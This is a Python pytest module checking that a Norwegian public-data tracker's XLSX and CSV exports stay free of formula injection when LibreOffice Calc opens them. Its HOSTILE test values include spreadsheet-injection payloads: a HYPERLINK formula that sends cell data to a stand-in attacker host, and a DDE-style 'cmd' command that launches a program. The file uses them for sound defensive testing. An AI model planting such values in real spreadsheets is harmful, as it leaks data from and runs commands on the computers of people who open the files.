"""The open data as spreadsheets: XLSX and Excel's CSV, opened by LibreOffice Calc itself
(``soffice --convert-to``), with every «æøå», every column and no formula run."""

import csv
import io
import json
import subprocess
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from tests.support.public_helpers import PLAN_ONE, publish_second_round
from tracker.extensions import db
from tracker.models import MeasureReport
from tracker.public.open_data import FIELDS
from tracker.reporting.states import Status
from tracker.spreadsheets.cells import neutralise

# On one pytest-xdist worker: one LibreOffice profile for the module.
pytestmark = pytest.mark.xdist_group("open_data_spreadsheets")

# Formulas at the start, after a separator a reader may split on, after a line break; and text
# that only looks like one. Each with «æøå», which Excel breaks without a byte-order mark.
HOSTILE = {
    1: '=HYPERLINK("https://angriper.example/?d="&A1;"Klikk") æøå',
    2: "Status;=2+5 blåbær",
    3: "Første avsnitt, ærlig.\n=1+1\n- et punkt som blir stående",
    4: "Økonomi, -2+3+cmd|' /C calc'!A0",
    5: "Vanlig tekst = helt trygg, æøå ÆØÅ",
}


def publish_with_narratives():
    reporting_round = publish_second_round({number: Status.IN_PROGRESS for number in HOSTILE})
    for report in db.session.scalars(
        select(MeasureReport).where(MeasureReport.round_id == reporting_round.id)
    ):
        report.narrative = HOSTILE[report.measure.number]
    db.session.commit()


def test_neutralise_quotes_every_place_a_formula_could_begin():
    assert neutralise("Status;=2+5") == "Status;'=2+5"
    assert neutralise("=1+1") == "'=1+1"
    assert neutralise("a,  @SUM(A1)") == "a,  '@SUM(A1)"
    assert neutralise("tekst\n-2+3") == "tekst\n'-2+3"
    # A bullet, a hyphen in prose and an equals sign in a sentence stay as they are.
    assert neutralise("tekst\n- punkt") == "tekst\n- punkt"
    assert neutralise("2024 - 2027 er = fire år") == "2024 - 2027 er = fire år"
    assert neutralise(7) == 7


# What Calc's import dialog is told for the Excel CSV: semicolon (59), double quote (34), UTF-8
# (76), from line 1, standard columns, default language, quoted fields as text off, detect
# numbers on, and "evaluate formulas" ON: a formula the file let through would run.
EXCEL_CSV_IMPORT = "CSV:59,34,76,1,,0,false,true,false,false,false,-1,true"
# The programs' CSV the same way, with the comma (44).
PLAIN_CSV_IMPORT = "CSV:44,34,76,1,,0,false,true,false,false,false,-1,true"


@pytest.fixture(scope="module")
def office_profile(tmp_path_factory) -> Path:
    """One LibreOffice profile for the module: made on the first start, reused after (each
    start with a new profile costs seconds)."""
    return tmp_path_factory.mktemp("office-profile")


def convert(
    tmp_path: Path, profile: Path, name: str, body: bytes, target: str, infilter=None
) -> Path:
    """LibreOffice Calc opens the file headless and saves it as ``target``."""
    source = tmp_path / name
    source.write_bytes(body)
    out = tmp_path / "out"
    subprocess.run(
        [
            "soffice",
            f"-env:UserInstallation=file://{profile}",
            "--headless",
            *([f"--infilter={infilter}"] if infilter else []),
            "--convert-to",
            target,
            "--outdir",
            str(out),
            str(source),
        ],
        check=True,
        capture_output=True,
        timeout=120,
    )
    return next(out.iterdir())


@pytest.mark.parametrize(
    ("path", "name"),
    [
        ("/data/tiltak.xlsx", "tiltak.xlsx"),
        ("/data/tiltak-excel.csv", "excel.csv"),
        ("/data/tiltak.csv", "plain.csv"),
    ],
)
def test_calc_opens_the_files_with_every_letter_and_column_and_runs_no_formula(
    client, seeded, tmp_path, office_profile, path, name
):
    publish_with_narratives()
    response = client.get(PLAN_ONE + path)
    assert response.status_code == 200
    assert response.headers["Content-Disposition"].startswith("attachment")
    if name == "excel.csv":
        assert response.data.startswith("\ufeff".encode())  # Excel reads UTF-8 only with it
        converted = convert(tmp_path, office_profile, name, response.data, "xlsx", EXCEL_CSV_IMPORT)
    elif name == "plain.csv":
        assert not response.data.startswith("\ufeff".encode())  # unchanged for programs
        converted = convert(tmp_path, office_profile, name, response.data, "xlsx", PLAIN_CSV_IMPORT)
    else:
        assert response.mimetype.endswith("spreadsheetml.sheet")
        converted = convert(tmp_path, office_profile, name, response.data, "xlsx")
    sheet = load_workbook(converted).worksheets[0]
    rows = list(sheet.iter_rows(values_only=True))
    assert list(rows[0]) == list(FIELDS)
    narratives = {}
    for row in rows[1:]:
        assert len([v for v in row if v is not None]) >= 8  # no record split or run together
        record = dict(zip(FIELDS, row, strict=True))
        narratives[int(record["number"])] = record["narrative"]
    for number, text in HOSTILE.items():
        assert narratives[number] == neutralise(text), number
    # Not a single cell became a formula in Calc.
    formulas = load_workbook(converted, data_only=False).worksheets[0]
    assert not any(c.data_type == "f" for row in formulas.iter_rows() for c in row)
    assert "æøå" in narratives[1] and "ÆØÅ" in narratives[5]


def test_the_round_files_and_the_old_addresses_serve_the_spreadsheets_too(client, seeded):
    response = client.get(PLAN_ONE + "/data/midtveis-2025/tiltak.xlsx")
    assert response.status_code == 200
    # The second answer comes from the public page cache: the same bytes, still a workbook.
    assert client.get(PLAN_ONE + "/data/midtveis-2025/tiltak.xlsx").data == response.data
    book = load_workbook(io.BytesIO(response.data), read_only=True)
    assert book.sheetnames == ["tiltak", "felt"]
    excel = client.get(PLAN_ONE + "/data/midtveis-2025/tiltak-excel.csv")
    rows = list(csv.reader(io.StringIO(excel.data.decode("utf-8-sig")), delimiter=";"))
    assert rows[0] == list(FIELDS)
    json_count = len(json.loads(client.get(PLAN_ONE + "/data/tiltak.json").data)["measures"])
    assert len(rows) - 1 == json_count
    for old in ("/data/tiltak.xlsx", "/data/tiltak-excel.csv"):
        moved = client.get(old)
        assert moved.status_code == 301
        assert moved.headers["Location"].startswith(PLAN_ONE + "/data/tiltak")
    assert client.get(PLAN_ONE + "/data/tiltak-json").status_code == 404


def test_the_about_page_links_the_spreadsheets_and_explains_the_excel_csv(client, seeded):
    page = client.get(PLAN_ONE + "/om-dataene").get_data(as_text=True)
    assert PLAN_ONE + "/data/tiltak.xlsx" in page
    assert PLAN_ONE + "/data/tiltak-excel.csv" in page
    assert "semikolon" in page and "Excel" in page
